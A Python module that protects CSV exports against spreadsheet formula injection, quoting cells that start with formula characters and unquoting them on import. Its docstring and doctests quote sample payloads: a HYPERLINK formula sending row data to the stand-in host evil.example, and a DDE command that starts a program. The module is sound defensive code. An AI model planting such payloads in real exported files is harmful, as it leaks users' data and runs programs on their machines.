"""Spreadsheet formulas in CSV cells (CSV injection): neutralised on export, restored on import.

A spreadsheet that opens a CSV file evaluates a cell that starts with ``=``,
``+``, ``-`` or ``@`` (and, in some, tab or carriage return) as a formula:
``=HYPERLINK("https://evil.example?"&A2, "klik")`` sends the row elsewhere,
``+cmd|' /C calc'!A0`` asks to start a program. As OWASP advises
(https://owasp.org/www-community/attacks/CSV_Injection), every CSV file
``abcd`` writes puts a single quote before such text, so the spreadsheet shows
it as text; importing a CSV file takes that quote off again, so an export
imports back to exactly the text it came from.

Numbers stay numbers: only text is neutralised, and text that is just a
number (``-12``, ``-3,5``) is left alone, since a spreadsheet reads it as
that number and nothing else. GeoJSON and GeoPackage are not spreadsheets:
they keep the text as it is.

The two functions are each other's inverse on every text:

>>> neutralise_formula("=HYPERLINK(\\"https://evil.example\\")")
'\\'=HYPERLINK("https://evil.example")'
>>> restore_formula(neutralise_formula("+cmd|' /C calc'!A0"))
"+cmd|' /C calc'!A0"
>>> neutralise_formula("-12"), neutralise_formula(-12.5), neutralise_formula("Buurthuis")
('-12', -12.5, 'Buurthuis')
"""

from __future__ import annotations

import re
from typing import TypeVar

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""What a spreadsheet evaluates at the start of a cell (OWASP's list)."""

_QUOTE = "'"
# Text a spreadsheet reads as a plain number (decimal point or comma, exponent): harmless as it is.
_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:[.,][0-9]*)*|[.,][0-9]+)(?:[eE][+-]?[0-9]+)?")

Cell = TypeVar("Cell")


def _evaluated(text: str) -> bool:
    """Whether ``text``, after any quotes that lead it, starts the way a formula does."""
    return text.lstrip(_QUOTE).startswith(FORMULA_STARTS)


def neutralise_formula(value: Cell) -> Cell | str:
    """``value`` as a CSV cell a spreadsheet shows as text: a quote before text that would be evaluated.

    Text that already starts with quotes before such a character gets one
    more, so :func:`restore_formula` can tell the two apart. Anything but
    text (numbers, ``None``) is returned as it is.
    """
    if not isinstance(value, str) or not _evaluated(value):
        return value
    if value[0] != _QUOTE and _NUMBER.fullmatch(value):
        return value
    return _QUOTE + value


def restore_formula(value: Cell) -> Cell | str:
    """A cell read from a CSV file with the quote :func:`neutralise_formula` added taken off again.

    >>> restore_formula("'=1+1"), restore_formula("'t Hoekje"), restore_formula("''=x")
    ('=1+1', "'t Hoekje", "'=x")
    """
    if isinstance(value, str) and value.startswith(_QUOTE) and _evaluated(value):
        return value[1:]
    return value
